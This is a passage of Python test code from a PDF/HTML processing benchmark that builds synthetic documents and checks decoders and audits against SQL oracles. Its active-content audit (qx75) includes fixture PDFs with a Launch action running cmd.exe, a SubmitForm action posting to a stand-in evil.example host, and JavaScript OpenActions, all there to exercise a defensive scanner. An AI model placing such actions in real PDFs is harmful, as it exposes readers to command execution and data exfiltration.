    qx22 inventory gates.

    Each doc embeds five images spanning the decoder's codec matrix:
    FlateDecode 8-bpc DeviceGray, DCTDecode baseline JPEG (integer-exact
    constant-DC fixture), a 1-bpc /Indexed palette into DeviceRGB, a
    4-bpc sub-byte gray (row-padded), a DCTDecode PROGRESSIVE
    (SOF2) JPEG — successive approximation on odd ids — proving the
    embedded-image path shares the full multi-scan decoder with the
    loose-blob tier, and a CCITTFaxDecode 1-bpc scan fixture (Group 4
    MMR, every 3rd doc Group 3 1-D with EOLs; odd docs BlackIs1=true
    with no /Decode so the raw-sample sense is certified both ways) —
    the dominant encoding of real scanned PDFs. The oracle restates
    every decoded mean-luma arithmetically, so a slip anywhere in the
    chain — filter prefix handling, palette clamp, MSB-first nibble
    unpack, JPEG Huffman/IDCT, fax mode/MH decode — lands on a value
    mismatch, not just a row count."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.pdfimages import extract_embedded_images

    rows = extract_embedded_images(Resolver(_qx38_make_pdf(i)))
    by_name = {r[1]: r for r in rows}
    yield {
        "n_images": len(rows),
        "n_ok": sum(1 for r in rows if r[8] is None),
        "luma_flate": by_name["Im0"][5],
        "luma_dct": by_name["Im1"][5],
        "luma_indexed": by_name["Im2"][5],
        "luma_subbyte": by_name["Im3"][5],
        "luma_dct_prog": by_name["Im4"][5],
        "luma_ccitt": by_name["Im5"][5],
    }


# gray palettes/samples: luma == the gray value everywhere; sub-byte
# scaling is v*255//15 per nibble, floor-mean over the 2x2 (second row
# is the 0x00 pad byte -> two zero samples)
ORACLE["qx38_embedded_image_decode"] = """
SELECT doc_id,
       CAST(6 AS BIGINT) AS n_images,
       CAST(6 AS BIGINT) AS n_ok,
       CAST((doc_id * 29) % 256 AS BIGINT) AS luma_flate,
       CAST((doc_id * 13) % 192 + 32 AS BIGINT) AS luma_dct,
       CAST(CASE WHEN doc_id % 2 = 0 THEN (doc_id * 17) % 256
                 ELSE (doc_id * 17 + 90) % 256 END AS BIGINT) AS luma_indexed,
       CAST(((doc_id % 16) * 255 // 15
             + ((doc_id * 5) % 16) * 255 // 15) // 4 AS BIGINT)
           AS luma_subbyte,
       CAST((doc_id * 19) % 180 + 40 AS BIGINT) AS luma_dct_prog,
       CAST(CASE WHEN doc_id % 2 = 0
                 THEN ((16 - doc_id % 17) * 255) // 16
                 ELSE ((doc_id % 17) * 255) // 16 END AS BIGINT)
           AS luma_ccitt
FROM documents
"""


def _qx39(spark: SparkSession, sf: str) -> DataFrame:
    """Cross-codec image dedup by DECODED-pixel digest (value oracle) —
    the shared-logo op: the same 16x16 logo is stored FlateDecode in
    even docs and as an integer-exact baseline JPEG in odd docs, so a
    byte-level hash of the stream can never match across codecs but the
    decoded-sample md5 does. The lift decodes map-side; the cross-doc
    part is a single hash-partitioned window over the 16-byte digest —
    uniform keys, no skew, the 10^12-image shape."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.imaging import encode_jpeg
    from pdf_spark.core.pdfimages import extract_embedded_images
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj
    from pyspark.sql.window import Window

    docs = load(spark, sf, "documents").select("doc_id")
    schema = StructType(
        [
            StructField("doc_id", LongType()),
            StructField("pixel_md5", StringType()),
            StructField("mean_luma", LongType()),
        ]
    )

    def build_doc(i: int) -> bytes:
        v = ((i % 7) * 41) % 192 + 32
        b = PdfBuilder.one_page()
        font = b.add(F_HELV)
        cont = b.stream(_content_td_tj(["logo"]), filters="FlateDecode")
        if i % 2 == 0:
            logo = b.stream(
                bytes([v]) * 256,
                extra_dict=(
                    b"/Subtype/Image/Width 16/Height 16"
                    b"/BitsPerComponent 8/ColorSpace/DeviceGray"
                ),
                filters="FlateDecode",
            )
        else:
            logo = b.stream(
                encode_jpeg(16, 16, [(v, 0)] * 4),
                extra_dict=(
                    b"/Subtype/Image/Width 16/Height 16/BitsPerComponent 8"
                    b"/ColorSpace/DeviceGray/Filter/DCTDecode"
                ),
            )
        return b.build(
            b.page_tree(font, cont, resources=b"/XObject<</Logo %d 0 R>>" % logo)
        )

    def run(i):
        rows = extract_embedded_images(Resolver(build_doc(i)))
        r = rows[0]
        yield {"doc_id": i, "pixel_md5": r[7], "mean_luma": r[5]}

    decoded = map_rows(docs, run, schema)
    w = Window.partitionBy("pixel_md5")
    return decoded.select(
        "doc_id",
        F.count(F.lit(1)).over(w).alias("group_size"),
        "mean_luma",
    )


QUERIES["qx39_image_pixel_dedup"] = _qx39
ORACLE["qx39_image_pixel_dedup"] = """
SELECT doc_id,
       CAST(COUNT(*) OVER (PARTITION BY doc_id % 7) AS BIGINT) AS group_size,
       CAST(((doc_id % 7) * 41) % 192 + 32 AS BIGINT) AS mean_luma
FROM documents
"""


# -- qx40: AI-training opt-out compliance (robots noai + TDM Reservation) ---------


_QX40_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("noai", IntegerType()),
        StructField("noimageai", IntegerType()),
        StructField("tdm_reservation", IntegerType()),
        StructField("tdm_policy", StringType()),
        StructField("train_allowed", IntegerType()),
    ]
)


@per_doc(QUERIES, "qx40_ai_optout", _QX40_SCHEMA)
def _qx40(d: int) -> Iterator[dict]:
    """The machine-learning OPT-OUT gate (E158) — run before any quality
    filter: robots-meta extension tokens (noai / noimageai) and the W3C
    TDM Reservation Protocol, in BOTH delivery channels (meta tags and
    HTTP headers: X-Robots-Tag with an agent prefix, tdm-reservation),
    directives unioned most-restrictive-wins like robots-meta.

    Rotation: doc_id%6 picks the channel/signal family — clean / meta
    noai / meta noimageai+tdm-policy / meta tdm-reservation=1 / header
    X-Robots-Tag noai / header tdm-reservation=1 overriding meta 0; a
    %7==5 family hides a fake meta inside <script> (rawtext-safe scan
    must NOT honor it)."""
    from pdf_spark.core.htmlaudit import ai_optout

    fam = d % 6
    meta_tags = ""
    headers = None
    if d % 7 == 5:  # rawtext decoy, never honored
        meta_tags += (
            "<script>var s = \"<meta name='robots'"
            " content='noai'>\";</script>"
        )
    if fam == 1:
        meta_tags += '<meta name="robots" content="noindex, noai">'
    elif fam == 2:
        meta_tags += (
            '<meta name="robots" content="noimageai">'
            '<meta name="tdm-policy"'
            f' content="https://example.com/tdm/{d % 9}.json">'
        )
    elif fam == 3:
        meta_tags += '<meta name="tdm-reservation" content="1">'
    elif fam == 4:
        headers = "X-Robots-Tag: trainbot: noai\r\nServer: x"
    elif fam == 5:
        meta_tags += '<meta name="tdm-reservation" content="0">'
        headers = "tdm-reservation: 1"
    page = (
        "<html><head>" + meta_tags
        + f"<title>d{d}</title></head><body>b</body></html>"
    )
    r = ai_optout(page.encode("utf-8"), headers=headers)
    yield r


ORACLE["qx40_ai_optout"] = """
SELECT doc_id,
       CAST(CASE WHEN doc_id % 6 IN (1, 4) THEN 1 ELSE 0 END AS INTEGER)
           AS noai,
       CAST(CASE WHEN doc_id % 6 = 2 THEN 1 ELSE 0 END AS INTEGER)
           AS noimageai,
       CAST(CASE WHEN doc_id % 6 IN (3, 5) THEN 1 END AS INTEGER)
           AS tdm_reservation,
       CASE WHEN doc_id % 6 = 2
            THEN 'https://example.com/tdm/' || CAST(doc_id % 9 AS VARCHAR)
                 || '.json' END AS tdm_policy,
       CAST(CASE WHEN doc_id % 6 IN (1, 3, 4, 5) THEN 0 ELSE 1 END
            AS INTEGER) AS train_allowed
FROM documents
"""


# -- qx41: inline-image pixel decode (§8.9.7 BI..ID..EI) ---------------------------


def _qx41_make_pdf(doc_id: int) -> bytes:
    """One-page PDF whose content stream carries an inline image in a
    rotating §8.9.7 shape (all abbreviation forms): raw gray 8-bpc /
    1-bpc bilevel / AHx-encoded gray / RGB 8-bpc / Indexed palette."""
    import binascii

    import pdf_spark.gen.pdfgen as g

    i = int(doc_id)
    fam = i % 5
    if fam == 0:  # raw gray two-tone: top a, bottom b
        a, b = (i * 7) % 200, (i * 7) % 200 + 40
        data = bytes([a] * 32 + [b] * 32)
        img = b"BI /W 8/H 8/BPC 8/CS/G ID " + data + b"\nEI"
    elif fam == 1:  # 1-bpc bilevel, rows alternate by doc parity
        row1, row0 = (0xFF, 0x00) if i % 2 == 0 else (0x00, 0xFF)
        data = bytes([row1, row0] * 4)
        img = b"BI /W 8/H 8/BPC 1/CS/G ID " + data + b"\nEI"
    elif fam == 2:  # ASCIIHex-encoded gray (abbreviated filter /AHx)
        v = (i * 13) % 256
        data = binascii.hexlify(bytes([v] * 16)) + b">"
        img = b"BI /W 4/H 4/BPC 8/CS/G/F/AHx ID " + data + b"\nEI"
    elif fam == 3:  # RGB 8-bpc solid color
        r, gg, bb = (i * 3) % 256, (i * 5) % 256, (i * 11) % 256
        data = bytes([r, gg, bb]) * 16
        img = b"BI /W 4/H 4/BPC 8/CS/RGB ID " + data + b"\nEI"
    else:  # Indexed palette, 8-bpc indices over a 2-entry RGB palette
        lo, hi = (i * 9) % 128, (i * 9) % 128 + 100
        pal = bytes([lo] * 3 + [hi] * 3)
        data = bytes([0] * 8 + [1] * 8)
        # palette as a HEX string: literal strings EOL-normalize a raw
        # 0x0D palette byte, hex strings carry any byte unharmed
        img = (b"BI /W 4/H 4/BPC 8/CS[/I/RGB 1 <"
               + binascii.hexlify(pal) + b">] ID " + data + b"\nEI")

    def content(lines):
        return b"BT /F1 12 Tf 72 720 Td (x) Tj ET\n" + img + b"\n"

    return g._simple_doc(["x"], content)


_QX41_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("n_inline", LongType()),
        StructField("width", LongType()),
        StructField("height", LongType()),
        StructField("channels", LongType()),
        StructField("mean_luma", LongType()),
    ]
)


@per_doc(QUERIES, "qx41_inline_image_decode", _QX41_SCHEMA)
def _qx41(d: int) -> Iterator[dict]:
    """Inline-image PIXEL decode (E168): the reference PANICS on BI
    (operator.h:259-261) and our text path spec-correctly skips; this
    tier DECODES them through the same decode_image_xobject path the
    XObject tier uses, after expanding every §8.9.7 abbreviation (/W /H
    /BPC /CS /F, filters AHx/A85/LZW/Fl/RL/DCT, colorspaces G/RGB/CMYK
    and the Indexed /I array). Enumeration uses real tokenization — a
    '(BI)' string literal can never fake an image. mean_luma is
    arithmetic per family, so the oracle restates it closed-form."""

    from pdf_spark.core.document import Resolver
    from pdf_spark.core.pdfimages import extract_inline_images

    imgs = extract_inline_images(Resolver(_qx41_make_pdf(d)))
    assert len(imgs) == 1 and imgs[0][8] is None, imgs
    _pg, _idx, w, h, ch, luma, _ah, _md5, _err = imgs[0]
    yield dict(zip(_QX41_SCHEMA.names, (d, len(imgs), w, h, ch, luma)))


# family lumas: 0 raw two-tone mean of a/a+40 -> a+20; 1 bilevel -> 127;
# 2 AHx solid v; 3 RGB solid -> ITU-R 601 integer luma of (r,g,b);
# 4 indexed half/half of two grays (palette entries are r=g=b).
ORACLE["qx41_inline_image_decode"] = """
WITH v AS (
    SELECT doc_id, doc_id % 5 AS fam,
           (doc_id * 7) % 200 AS a,
           (doc_id * 13) % 256 AS hx,
           (doc_id * 3) % 256 AS r,
           (doc_id * 5) % 256 AS g,
           (doc_id * 11) % 256 AS b,
           (doc_id * 9) % 128 AS lo
    FROM documents
)
SELECT doc_id,
       CAST(1 AS BIGINT) AS n_inline,
       CAST(CASE WHEN fam <= 1 THEN 8 ELSE 4 END AS BIGINT) AS width,
       CAST(CASE WHEN fam <= 1 THEN 8 ELSE 4 END AS BIGINT) AS height,
       CAST(CASE WHEN fam IN (3, 4) THEN 3 ELSE 1 END AS BIGINT)
           AS channels,
       CAST(CASE fam
            WHEN 0 THEN a + 20
            WHEN 1 THEN 127
            WHEN 2 THEN hx
            WHEN 3 THEN (299 * r + 587 * g + 114 * b) // 1000
            ELSE lo + 50
            END AS BIGINT) AS mean_luma
FROM v
"""


# -- qx42: hidden-content / cloaking audit (E171) ----------------------------------


_QX42_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("visible_chars", LongType()),
        StructField("hidden_chars", LongType()),
        StructField("n_hidden_nodes", LongType()),
        StructField("hidden_milli", LongType()),
    ]
)


@per_doc(QUERIES, "qx42_hidden_content", _QX42_SCHEMA)
def _qx42(d: int) -> Iterator[dict]:
    """Cloaked-text audit (E171): text a browser never shows (inline
    display:none / visibility:hidden / font-size:0 / off-screen
    offsets, the ``hidden`` attribute, ``aria-hidden="true"``) but a
    naive extractor ingests verbatim — the classic SEO keyword-stuffing
    vector and a standing quality gate in web-scale pipelines. Rotation
    doc_id%5: clean / display:none / hidden attr / nested aria-hidden
    (one scope, chars summed) / two off-screen scopes; every third doc
    adds a <script> decoy carrying a fake display:none div that the
    rawtext-safe walk must ignore."""
    from pdf_spark.core.htmlaudit import hidden_audit

    fam = d % 5
    vis = "v" * (10 + d % 13)
    h1 = "h" * (5 + d % 7)
    body = f"<p>{vis}</p>"
    if fam == 1:
        body += f'<div style="display: none">{h1}</div>'
    elif fam == 2:
        body += f"<span hidden>{h1}</span>"
    elif fam == 3:
        q = "q" * (2 + d % 3)
        body += (
            f'<div aria-hidden="true"><p>{h1}</p>'
            f'<span style="visibility:hidden">{q}</span></div>'
        )
    elif fam == 4:
        k = "k" * (3 + d % 4)
        body += (
            f'<p style="text-indent:-9999px">{h1}</p>'
            f'<i style="font-size:0">{k}</i>'
        )
    if d % 3 == 0:
        body += (
            "<script>var s = \"<div style='display:none'>"
            "zzzzz</div>\";</script>"
        )
    page = (
        "<html><head><title>t</title></head><body>"
        + body + "</body></html>"
    )
    r = hidden_audit(page.encode("utf-8"))
    yield r


ORACLE["qx42_hidden_content"] = """
WITH v AS (
    SELECT doc_id, doc_id % 5 AS fam,
           10 + doc_id % 13 AS vis,
           5 + doc_id % 7 AS h1,
           2 + doc_id % 3 AS q,
           3 + doc_id % 4 AS k
    FROM documents
), h AS (
    SELECT doc_id, vis,
           CASE fam WHEN 0 THEN 0 WHEN 3 THEN h1 + q WHEN 4 THEN h1 + k
                ELSE h1 END AS hid,
           CASE fam WHEN 0 THEN 0 WHEN 4 THEN 2 ELSE 1 END AS nodes
    FROM v
)
SELECT doc_id,
       CAST(vis AS BIGINT) AS visible_chars,
       CAST(hid AS BIGINT) AS hidden_chars,
       CAST(nodes AS BIGINT) AS n_hidden_nodes,
       CAST((1000 * hid) // (vis + hid) AS BIGINT) AS hidden_milli
FROM h
"""


# -- qx75: PDF active-content / attack-surface census (§12.6) ------------------
#
# The safety triage a crawl runs before ingesting PDFs: OpenAction
# kind, doc-level JavaScript name tree, catalog /AA hooks, and
# per-annotation JavaScript/Launch/URI/SubmitForm actions — qm49's
# SVG audit one tier down. fam = doc_id % 4: benign link page with a
# destination-array OpenAction / doc-JS tree (k entries) + JS
# OpenAction / Launch+SubmitForm annots / clean. Real builder PDFs,
# real catalog+page-tree walk.


_QX75_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("has_openaction", IntegerType()),
        StructField("openaction_kind", StringType()),
        StructField("has_catalog_aa", IntegerType()),
        StructField("n_doc_js", IntegerType()),
        StructField("n_annot_js", IntegerType()),
        StructField("n_launch", IntegerType()),
        StructField("n_uri", IntegerType()),
        StructField("n_submit", IntegerType()),
        StructField("risky", IntegerType()),
    ]
)


def _qx75_make_pdf(i: int) -> bytes:
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    b = PdfBuilder.one_page()
    b.add(F_HELV)  # font (unreferenced annots-only docs keep it too)
    cont = b.stream(_content_td_tj([f"audit {i}"]))
    fam = i % 4
    annots = []
    extra = b""
    if fam == 0:
        link = b.add(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 100 20]"
            b"/A<</S/URI/URI(https://example.com/" + str(i).encode()
            + b")>>>>"
        )
        annots = [link]
        extra = b"/OpenAction[%d 0 R/Fit]" % b.PAGE
    elif fam == 1:
        k = i % 3 + 1
        pairs = b" ".join(
            b"(js" + str(j).encode() + b") "
            + str(b.add(
                b"<</S/JavaScript/JS(app.alert(" + str(j).encode()
                + b"))>>"
            )).encode() + b" 0 R"
            for j in range(k)
        )
        js_tree = b.add(b"<</Names[" + pairs + b"]>>")
        names = b.add(
            b"<</JavaScript " + str(js_tree).encode() + b" 0 R>>"
        )
        oa = b.add(b"<</S/JavaScript/JS(this.print\\(\\))>>")
        extra = (
            b"/Names " + str(names).encode() + b" 0 R/OpenAction "
            + str(oa).encode() + b" 0 R"
        )
    elif fam == 2:
        launch = b.add(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 50 20]"
            b"/A<</S/Launch/F(cmd.exe)>>>>"
        )
        submit = b.add(
            b"<</Type/Annot/Subtype/Widget/Rect[0 30 50 50]"
            b"/A<</S/SubmitForm/F(https://evil.example/post)>>>>"
        )
        annots = [launch, submit]
    return b.build(b.page_tree(None, cont, catalog=extra, annots=annots))


@per_doc(QUERIES, "qx75_active_content", _QX75_SCHEMA)
def _qx75(d: int) -> list:
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import active_content_audit

    return [active_content_audit(Resolver(_qx75_make_pdf(d)))]


ORACLE["qx75_active_content"] = """
WITH v AS (SELECT doc_id, doc_id % 4 AS fam, doc_id % 3 + 1 AS k
           FROM documents)
SELECT doc_id,
       CAST(CASE WHEN fam IN (0, 1) THEN 1 ELSE 0 END AS INTEGER)
           AS has_openaction,
       CASE fam WHEN 0 THEN 'dest_array' WHEN 1 THEN 'JavaScript' END
           AS openaction_kind,
       CAST(0 AS INTEGER) AS has_catalog_aa,
       CAST(CASE WHEN fam = 1 THEN k ELSE 0 END AS INTEGER) AS n_doc_js,
       CAST(0 AS INTEGER) AS n_annot_js,
       CAST(CASE WHEN fam = 2 THEN 1 ELSE 0 END AS INTEGER) AS n_launch,
       CAST(CASE WHEN fam = 0 THEN 1 ELSE 0 END AS INTEGER) AS n_uri,
       CAST(CASE WHEN fam = 2 THEN 1 ELSE 0 END AS INTEGER) AS n_submit,
       CAST(CASE WHEN fam IN (1, 2) THEN 1 ELSE 0 END AS INTEGER) AS risky
FROM v
"""


# -- qx76: tagged-PDF accessibility / alt-text census (§14.7-14.8) -------------
#
# The caption-mining + accessibility surface: structure-element role
# counts (paragraphs, H/H1-H6 headings, Figures with /Alt — the
# channel LAION-style alt-text pairing reads from PDFs), element
# count and nesting depth, /MarkInfo conformance bit. fam =
# doc_id % 3: prose tree (Document > H1 + p paragraphs) / figure
# tree (f Figures, alt on even indices) / untagged.


_QX76_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("tagged", IntegerType()),
        StructField("n_elems", IntegerType()),
        StructField("n_para", IntegerType()),
        StructField("n_headings", IntegerType()),
        StructField("n_figures", IntegerType()),
        StructField("n_fig_alt", IntegerType()),
        StructField("max_depth", IntegerType()),
    ]
)


def _qx76_make_pdf(i: int) -> bytes:
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    b = PdfBuilder.one_page()
    b.add(F_HELV)
    cont = b.stream(_content_td_tj([f"census {i}"]))
    fam = i % 3
    extra = b""
    if fam in (0, 1):
        doc_elem = b.reserve()
        if fam == 0:
            p = i % 4 + 1
            kids = [b.add(b"<</S/H1/P " + str(doc_elem).encode()
                          + b" 0 R/K 0>>")]
            kids += [
                b.add(b"<</S/P/P " + str(doc_elem).encode()
                      + b" 0 R/K " + str(j + 1).encode() + b">>")
                for j in range(p)
            ]
        else:
            f = i % 3 + 1
            kids = [
                b.add(
                    b"<</S/Figure/P " + str(doc_elem).encode() + b" 0 R"
                    + (b"/Alt(figure " + str(j).encode() + b")"
                       if j % 2 == 0 else b"")
                    + b"/K " + str(j).encode() + b">>"
                )
                for j in range(f)
            ]
        root = b.reserve()
        b.set(
            doc_elem,
            b"<</S/Document/P " + str(root).encode() + b" 0 R/K["
            + b" ".join(str(k).encode() + b" 0 R" for k in kids)
            + b"]>>",
        )
        b.set(
            root,
            b"<</Type/StructTreeRoot/K[" + str(doc_elem).encode()
            + b" 0 R]>>",
        )
        extra = (
            b"/MarkInfo<</Marked true>>/StructTreeRoot "
            + str(root).encode() + b" 0 R"
        )
    return b.build(b.page_tree(None, cont, catalog=extra))


@per_doc(QUERIES, "qx76_struct_census", _QX76_SCHEMA)
def _qx76(d: int) -> list:
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import struct_census

    return [struct_census(Resolver(_qx76_make_pdf(d)))]


ORACLE["qx76_struct_census"] = """
WITH v AS (SELECT doc_id, doc_id % 3 AS fam, doc_id % 4 + 1 AS p,
                  doc_id % 3 + 1 AS f
           FROM documents)
SELECT doc_id,
       CAST(CASE WHEN fam = 2 THEN 0 ELSE 1 END AS INTEGER) AS tagged,
       CAST(CASE fam WHEN 0 THEN p + 2 WHEN 1 THEN f + 1 ELSE 0
            END AS INTEGER) AS n_elems,
       CAST(CASE WHEN fam = 0 THEN p ELSE 0 END AS INTEGER) AS n_para,
       CAST(CASE WHEN fam = 0 THEN 1 ELSE 0 END AS INTEGER) AS n_headings,
       CAST(CASE WHEN fam = 1 THEN f ELSE 0 END AS INTEGER) AS n_figures,
       CAST(CASE WHEN fam = 1 THEN (f + 1) // 2 ELSE 0 END AS INTEGER)
           AS n_fig_alt,
       CAST(CASE WHEN fam = 2 THEN 0 ELSE 2 END AS INTEGER) AS max_depth
FROM v
"""
